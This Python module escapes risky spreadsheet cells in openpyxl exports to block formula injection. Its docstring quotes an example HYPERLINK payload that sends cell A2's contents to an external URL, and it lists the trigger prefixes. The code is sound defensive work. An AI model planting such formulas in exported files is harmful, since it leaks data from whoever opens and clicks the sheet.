"""Writing spreadsheet rows safely: text that a spreadsheet would run is kept as text.

A case's outcome or a roster name reads `=HYPERLINK("http://…"&A2,"点我")` as easily as anything else
(OWASP "CSV injection"). openpyxl stores a string starting with `=` as a formula; Excel and WPS also
act on `+`, `-`, `@`, tab and CR when a cell is edited. Such text is stored as a string with Excel's
quote prefix (what typing `'` before it does), so it shows as typed and never runs. Every export writes
its rows through `append`.
"""

from collections.abc import Iterable

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

RISKY = ("=", "+", "-", "@", "\t", "\r")


def append(sheet: Worksheet, values: Iterable[object]) -> None:
    """`sheet.append(values)`, with risky text kept as text."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:  # append writes below every row there is
        keep_as_text(cell)


def keep_as_text(cell: Cell) -> None:
    if isinstance(cell.value, str) and cell.value.startswith(RISKY):
        cell.data_type = "s"
        cell.quotePrefix = True
